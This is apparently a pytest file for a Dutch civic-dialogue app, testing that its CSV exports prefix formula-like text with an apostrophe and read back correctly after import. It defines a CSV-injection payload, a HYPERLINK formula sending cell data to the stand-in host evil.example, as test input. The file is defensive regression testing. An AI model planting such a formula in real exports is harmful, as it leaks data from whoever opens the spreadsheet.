"""Finding 5: every CSV Zwerm writes escapes text a spreadsheet would run as a formula."""

import csv
import io
import zipfile

import pytest

from tests.foundation.builders import make_resident, staff_login
from zwerm.accounts.roles import Role
from zwerm.core.csvfile import CsvWriter, csv_cell, unescape_cell
from zwerm.dialogues import services
from zwerm.dialogues.models import Statement

HOST = "testdam.localhost"
ATTACK = '=HYPERLINK("https://evil.example/?d="&A1;"Klik")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_that_starts_like_a_formula_gets_an_apostrophe(start):
    assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert unescape_cell(csv_cell(start + "1+1")) == start + "1+1"


def test_numbers_stay_numbers_and_ordinary_text_stays_as_it_is():
    out = io.StringIO()
    CsvWriter(out).writerow([-1, 2.5, None, True, False, "'s-Hertogenbosch", "Meer groen"])
    assert out.getvalue() == "-1,2.5,,true,false,'s-Hertogenbosch,Meer groen\r\n"
    assert unescape_cell("'s-Hertogenbosch") == "'s-Hertogenbosch"


@pytest.fixture
def dialogue(make_staff, municipality):
    lead = make_staff(Role.PROCESS_LEAD)
    dialogue = services.dialogue_create(
        author=lead, municipality=municipality, title="=Plein", question="Hoe?", seed_statements=["Meer groen"]
    )
    return dialogue, lead


def test_the_dialogue_export_escapes_a_residents_formula(client, dialogue, municipality, neighbourhood):
    dialogue, lead = dialogue
    p = services.participant_for(dialogue=dialogue, user=make_resident(municipality, neighbourhood))
    statement = services.statement_submit(participant=p, text=ATTACK)
    services.statement_moderate(moderator=lead, statement=statement, approve=True, reason="")
    services.vote_cast(participant=p, statement=dialogue.statements.first(), value=-1)
    staff_login(client, lead)
    response = client.get(f"/dialogen/{dialogue.pk}/export.zip", HTTP_HOST=HOST)
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        comments = list(csv.DictReader(archive.read("comments.csv").decode("utf-8").splitlines()))
        summary = archive.read("summary.csv").decode("utf-8")
        votes = list(csv.DictReader(archive.read("votes.csv").decode("utf-8").splitlines()))
    bodies = [c["comment-body"] for c in comments]
    assert all(not body.startswith("=") for body in bodies)
    assert "'" + Statement.objects.get(pk=statement.pk).public_text in bodies
    assert "topic,'=Plein" in summary
    assert [v["vote"] for v in votes] == ["-1"]  # a number is not text: no apostrophe


def test_the_dialogue_export_reads_back_as_written(dialogue, municipality, neighbourhood, tmp_path):
    dialogue, lead = dialogue
    p = services.participant_for(dialogue=dialogue, user=make_resident(municipality, neighbourhood))
    statement = services.statement_submit(participant=p, text=ATTACK)
    services.statement_moderate(moderator=lead, statement=statement, approve=True, reason="")
    folder = services.dialogue_export_polis(dialogue=dialogue, folder=tmp_path / "export")
    imported = services.dialogue_import_polis(folder=folder, municipality=municipality, author=lead)
    assert imported.title == "=Plein"
    assert Statement.objects.get(pk=statement.pk).public_text in set(imported.statements.values_list("text", flat=True))
